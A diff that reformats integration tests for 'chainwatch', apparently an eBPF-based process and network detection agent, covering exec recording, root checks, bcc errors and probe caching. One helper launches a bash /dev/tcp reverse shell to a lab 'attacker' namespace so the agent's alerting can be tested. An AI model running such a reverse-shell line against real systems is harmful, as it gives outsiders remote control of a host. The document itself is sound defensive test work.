@@ -33,12 +33,20 @@ def test_record_then_replay_dump_shows_23_execs(sensorlab, tmp_path) -> None:
     """`chainwatch record` during 23 /bin/true execs, then `replay --dump` shows them with the shell as ppid."""
     recording, log = tmp_path / "x.cw", tmp_path / "record.log"
     with log.open("w") as err:
-        agent = subprocess.Popen([*CHAINWATCH, "record", str(recording), *cache_config(tmp_path)], stderr=err,
-                                 stdout=subprocess.DEVNULL)
+        agent = subprocess.Popen(
+            [*CHAINWATCH, "record", str(recording), *cache_config(tmp_path)], stderr=err, stdout=subprocess.DEVNULL
+        )
     try:
         assert wait_for_line(log, '"sensor_ready"', 60), log.read_text()
-        shell = int(subprocess.run(["bash", "-c", "echo $$; for i in $(seq 23); do /bin/true; done"],
-                                   capture_output=True, text=True, timeout=20, check=True).stdout.split()[0])
+        shell = int(
+            subprocess.run(
+                ["bash", "-c", "echo $$; for i in $(seq 23); do /bin/true; done"],
+                capture_output=True,
+                text=True,
+                timeout=20,
+                check=True,
+            ).stdout.split()[0]
+        )
         time.sleep(0.5)
     finally:
         agent.send_signal(signal.SIGINT)
@@ -48,10 +56,12 @@ def test_record_then_replay_dump_shows_23_execs(sensorlab, tmp_path) -> None:
     assert sum(1 for line in lines if line["event"] == "sensor_ready") == 1
     final = [line for line in lines if line["event"] == "stats" and line["final"]]
     from agent.probes.loader import DROP_REASONS
+
     assert final and final[0]["kernel_drops"] == dict.fromkeys(DROP_REASONS, 0)
 
-    dump = subprocess.run([*CHAINWATCH, "replay", str(recording), "--dump"], capture_output=True, text=True,
-                          timeout=60, check=True)
+    dump = subprocess.run(
+        [*CHAINWATCH, "replay", str(recording), "--dump"], capture_output=True, text=True, timeout=60, check=True
+    )
     events = [json.loads(line) for line in dump.stdout.splitlines()]
     trues = [e for e in events if e["type"] == "exec" and e["filename"] == "/bin/true" and e["ppid"] == shell]
     assert len(trues) == 23
@@ -62,9 +72,14 @@ def test_record_then_replay_dump_shows_23_execs(sensorlab, tmp_path) -> None:
 def test_run_refuses_non_root_with_one_sentence(tmp_path) -> None:
     """`chainwatch run` as an unprivileged user exits non-zero with one sentence saying to run as root."""
     require_root("needs root to drop to an unprivileged user")
-    proc = subprocess.run(["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", *CHAINWATCH, "run"],
-                          capture_output=True, text=True, timeout=60, cwd=os.getcwd(),
-                          env={**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[2])})
+    proc = subprocess.run(
+        ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", *CHAINWATCH, "run"],
+        capture_output=True,
+        text=True,
+        timeout=60,
+        cwd=os.getcwd(),
+        env={**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[2])},
+    )
     assert proc.returncode != 0
     assert "root" in proc.stderr
     assert proc.stderr.count("\n") == 1 and "Traceback" not in proc.stderr
@@ -78,8 +93,13 @@ def test_run_without_bcc_says_how_to_install_it(tmp_path) -> None:
     (shadow / "bcc.py").write_text("raise ImportError('bcc hidden by the test')\n")
     root = Path(__file__).resolve().parents[2]
     # An empty cache: the program must be compiled, which is what needs bcc.
-    proc = subprocess.run([*CHAINWATCH, "run", *cache_config(tmp_path)], capture_output=True, text=True, timeout=60,
-                          env={**os.environ, "PYTHONPATH": f"{shadow}:{root}"})
+    proc = subprocess.run(
+        [*CHAINWATCH, "run", *cache_config(tmp_path)],
+        capture_output=True,
+        text=True,
+        timeout=60,
+        env={**os.environ, "PYTHONPATH": f"{shadow}:{root}"},
+    )
     assert proc.returncode != 0
     assert "python3-bpfcc" in proc.stderr
     assert "Traceback" not in proc.stderr
@@ -97,16 +117,18 @@ def run_until_ready(log: Path, args: list[str]) -> subprocess.Popen[bytes]:
 
 
 def ready_line(log: Path) -> dict[str, object]:
-    line: dict[str, object] = next(entry for entry in map(json.loads, log.read_text().splitlines())
-                                   if entry["event"] == "sensor_ready")
+    line: dict[str, object] = next(
+        entry for entry in map(json.loads, log.read_text().splitlines()) if entry["event"] == "sensor_ready"
+    )
     return line
 
 
 def reverse_shell_alerts(netlab, alerts: Path, port: int) -> list[dict[str, object]]:  # type: ignore[no-untyped-def]
     """A bash /dev/tcp reverse shell in the lab to ``port``; the alert lines that appear in ``alerts``."""
     listener = netlab.listen_tcp(netlab.attacker_ns, port, payload=b"echo cw-$((6*7))\nexit\n", duration=10)
-    netlab.run(netlab.victim_ns, ["bash", "-c", f"bash -i >& /dev/tcp/{netlab.attacker_ip4}/{port} 0>&1; exit 0"],
-               timeout=15)
+    netlab.run(
+        netlab.victim_ns, ["bash", "-c", f"bash -i >& /dev/tcp/{netlab.attacker_ip4}/{port} 0>&1; exit 0"], timeout=15
+    )
     assert b"cw-42" in listener.wait(timeout=15)
     wait_until(lambda: alerts.exists() and alerts.read_text().strip(), timeout=10, interval=0.1)
     time.sleep(1)
@@ -151,8 +173,9 @@ def test_second_run_loads_the_cached_probes_and_still_alerts(sensorlab, netlab, 
         assert second["compile"] == "cached" and "compile_s" not in second, second
         assert second["probes"] == first["probes"]
         # The agent sees the whole host: keep this lab's shell (other tests' labs use other ports).
-        lines = [a for a in reverse_shell_alerts(netlab, alerts, port)
-                 if (a.get("destination") or {}).get("port") == port]
+        lines = [
+            a for a in reverse_shell_alerts(netlab, alerts, port) if (a.get("destination") or {}).get("port") == port
+        ]
     finally:
         stop(agent, second_log)
     assert len({a["chainwatch"]["incident"]["id"] for a in lines}) == 1, lines
